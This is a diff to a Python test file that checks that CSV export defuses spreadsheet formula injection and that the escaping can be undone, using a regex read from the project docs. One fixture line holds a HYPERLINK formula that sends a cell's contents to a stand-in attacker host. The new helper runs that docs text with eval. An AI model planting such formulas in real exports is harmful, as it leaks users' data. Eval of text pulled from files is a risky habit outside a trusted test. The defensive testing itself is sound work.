@@ -1,6 +1,7 @@
 """CSV that does no harm, and can be read back."""
 
 import csv
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -13,6 +14,7 @@ from tests.export.conftest import Exported, Into, counted, kept
 from tests.make import text_page
 from tests.test_job import bring
 
+DOCS = Path(__file__).parents[2] / "docs" / "export.md"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Аким проверил мост")'
 
 
@@ -41,10 +43,15 @@ def test_no_text_begins_as_a_formula_does(sign: str) -> None:
     assert harmless(f"{sign}1+1") == f"'{sign}1+1"
 
 
-@given(st.text())
-def test_one_apostrophe_taken_away_gives_the_text_back(text: str) -> None:
-    assert harmless(text).removeprefix("'") == text
-    assert not harmless(text).startswith(DANGEROUS)
+@given(st.text() | st.text(alphabet="=+-@＝;'\r\n\ta "))
+def test_what_was_put_before_it_can_be_taken_away(text: str) -> None:
+    assert as_in_the_docs(harmless(text)) == text
+    assert not any(cell.startswith(DANGEROUS) for cell in harmless(text).split(";"))
+
+
+def as_in_the_docs(text: str) -> str:
+    (undo,) = re.findall(r"`(re\.sub\(.*?\))`", DOCS.read_text("utf-8"))
+    return str(eval(undo, {"re": re, "text": text}))  # noqa: S307 - our docs
 
 
 def test_it_is_as_spreadsheets_want_it(exported: Exported) -> None:
@@ -57,7 +64,7 @@ def test_lists_are_parted_by_line_breaks(exported: Exported, night: Path) -> Non
     read = {(row["id"], row["revision"]): row for row in rows(exported("csv"), "articles")}
     for record in kept(night)["articles"]:
         row = read[record["id"], str(record["revision"])]
-        assert row["paragraphs"].removeprefix("'").split("\n") == record["paragraphs"]
+        assert as_in_the_docs(row["paragraphs"]).split("\n") == record["paragraphs"]
         assert row["tags"].split("\n") == (record["tags"] or [""])
 
 
